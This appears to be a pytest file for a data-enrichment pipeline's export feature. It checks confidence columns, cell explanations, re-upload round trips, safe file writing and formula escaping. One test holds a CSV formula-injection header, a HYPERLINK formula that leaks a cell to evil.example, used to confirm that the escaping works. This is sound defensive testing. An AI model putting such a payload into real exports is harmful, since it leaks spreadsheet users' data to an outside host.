"""The export: each value's confidence beside it, round-trips through a new upload, explains each cell on request,
escapes formulas (headers too) but not signed numbers, and never writes over a file unless forced."""

from __future__ import annotations

import json
from datetime import UTC, datetime
from pathlib import Path

import polars as pl
import pytest

from glaze_pipeline.core.intake.export import (
    ExportError,
    confidence_column_names,
    enriched_column_names,
    escape_formulas,
    export_frame,
    field_confidence,
    write_export,
)
from glaze_pipeline.core.intake.tables import TableInfo, table_info
from glaze_pipeline.core.intake.uploads import upload_file
from glaze_pipeline.core.model.candidates import CANDIDATE_SCHEMA
from glaze_pipeline.core.pipeline.merge import audit_trail, merge
from glaze_pipeline.core.pipeline.waterfall import TableWork
from glaze_pipeline.core.storage.landing import land


def _csv(path: Path, header: list[str], rows: list[list[str]]) -> Path:
    path.write_text("\n".join(",".join(r) for r in [header, *rows]) + "\n")
    return path


def _enrich_with(conn, table_id: str, found: dict[str, tuple[str, int]]) -> None:
    """Land what a website stage would have found: `found` maps a normalised URL to (company_name, confidence);
    the other rows come back not_found."""
    work = TableWork.load(conn, table_id)
    now = datetime.now(UTC)
    rows = []
    for row_key, url in work.rows.select("row_key", "normalized_url").iter_rows():
        if url in found:
            value, confidence = found[url]
            rows.append((row_key, "company_name", value, confidence, "website", url, 0.0, False, now, "filled", None))
        else:
            rows.append((row_key, None, None, None, "website", None, 0.0, False, now, "not_found", None))
    candidates = pl.DataFrame(rows, schema=CANDIDATE_SCHEMA, orient="row")
    records = merge(work.rows, work.wanted, [work.hints, candidates], ["website"])
    rejects = pl.DataFrame(schema={"row_key": pl.String, "reasons": pl.String})
    land(conn, table_id, records, audit_trail(records, candidates), rejects, work.asked)
    conn.commit()


def test_export_explains_each_cell(conn, tmp_path):
    source = _csv(tmp_path / "explain_me.csv", ["url"], [["acme.example"], ["globex.example"], ["nota url"]])
    uploaded = upload_file(conn, source, fields="company_name")
    _enrich_with(conn, uploaded.table_id, {"https://acme.example": ("Acme", 90)})
    frame = export_frame(conn, table_info(conn, uploaded.table_id), explain=True)
    assert frame.columns == [
        "url",
        "company_name",
        "company_name_confidence",
        "company_name_source",
        "company_name_status",
        "glaze_status",
    ]
    assert frame.row(0) == ("acme.example", "Acme", 90, "website", "filled", "filled")
    # An empty cell names whose word explains it, and the word itself.
    assert frame.row(1)[1:5] == (None, None, "website", "not_found: website found no value")
    assert frame.row(2)[1:5] == (None, None, None, None) and frame.row(2)[5].startswith("rejected: ")
    plain = export_frame(conn, table_info(conn, uploaded.table_id))
    assert plain.columns == ["url", "company_name", "company_name_confidence", "glaze_status"]


def test_an_export_uploads_and_exports_again_with_predictable_names(conn, tmp_path):
    """Our own column names in the input (glaze_status, glaze_company_name beside company_name) used to crash."""
    source = _csv(
        tmp_path / "round_trip.csv",
        ["url", "company_name", "glaze_status"],
        [["acme.example", "Acme Inc", "old"], ["globex.example", "", "old"]],
    )
    first = upload_file(conn, source, fields="company_name,company_email")
    _enrich_with(conn, first.table_id, {"https://globex.example": ("Globex", 80)})
    exported = tmp_path / "round_trip_out.csv"
    write_export(export_frame(conn, table_info(conn, first.table_id), explain=True), exported, "csv")
    columns = pl.read_csv(exported, infer_schema=False).columns
    assert columns[:3] == ["url", "company_name", "glaze_status"]  # the user's, untouched
    assert "glaze_company_name" in columns and "glaze_status_2" in columns

    second = upload_file(conn, exported, fields="company_name,company_email")
    _enrich_with(conn, second.table_id, {"https://globex.example": ("Globex", 80)})
    again = export_frame(conn, table_info(conn, second.table_id), explain=True)
    assert again.columns[: len(columns)] == columns  # everything it was given, in order
    added = again.columns[len(columns) :]
    assert added[0] == "glaze_company_name_2" and added[-1] == "glaze_status_3"
    assert len(set(again.columns)) == again.width


def test_formulas_are_escaped_in_cells_and_headers_but_signed_numbers_are_not():
    frame = pl.DataFrame(
        {
            '=HYPERLINK("http://evil.example/?leak="&A2)': ["x"],
            "phone": ["+14155550123"],
            "debt": ["-3.5"],
            "sum": ["-1+2"],
            "spaced": ["+1 415 555 0123"],
            "at": ["@SUM(A1)"],
            "wide": ["＝1+1"],
        }
    )
    escaped = escape_formulas(frame)
    assert escaped.columns[0] == "'" + frame.columns[0]
    assert escaped.row(0) == ("x", "+14155550123", "-3.5", "'-1+2", "'+1 415 555 0123", "'@SUM(A1)", "'＝1+1")


def test_write_export_refuses_existing_files_and_inputs_unless_forced(tmp_path):
    frame = pl.DataFrame({"a": ["1"]})
    target = tmp_path / "out.csv"
    target.write_text("precious\n")
    with pytest.raises(ExportError, match="already exists"):
        write_export(frame, target, "csv")
    assert target.read_text() == "precious\n"
    source = tmp_path / "input.csv"
    with pytest.raises(ExportError, match="uploaded from"):
        write_export(frame, source, "csv", inputs=(source,))
    write_export(frame, target, "csv", force=True)
    assert target.read_text() == "a\n1\n"
    with pytest.raises(ExportError, match="does not exist"):
        write_export(frame, tmp_path / "missing" / "x.csv", "csv")
    assert sorted(p.name for p in tmp_path.iterdir()) == ["out.csv"]  # no partial file left behind


def _info(columns: list[str], wanted: list[str]) -> TableInfo:
    return TableInfo("t", "t", "website", columns, wanted, [], 1, 1, 0, 0, "enriched", datetime.now(UTC))


def test_each_enriched_column_has_a_confidence_column_prefixed_like_it() -> None:
    table = _info(["website", "company_name", "company_email_confidence"], ["company_name", "company_email"])
    assert enriched_column_names(table) == {"company_name": "glaze_company_name", "company_email": "company_email"}
    assert confidence_column_names(table) == {
        "company_name": "glaze_company_name_confidence",
        "company_email": "glaze_company_email_confidence",  # the user's table already has this name
    }


def test_confidence_of_a_landed_value_and_of_one_kept_only_as_a_candidate() -> None:
    provenance = {
        "company_name": {"status": "filled", "confidence": 98, "source": "website"},
        "company_country": {"status": "low_confidence", "value": "IO", "confidence": 41, "source": "website"},
        "company_email": {"status": "not_found"},
    }
    assert field_confidence(provenance, "company_name") == 98
    assert field_confidence(json.dumps(provenance), "company_country") == 41  # the cell itself stays empty
    assert field_confidence(provenance, "company_email") is None
    assert field_confidence(None, "company_name") is None  # a rejected input row has no record
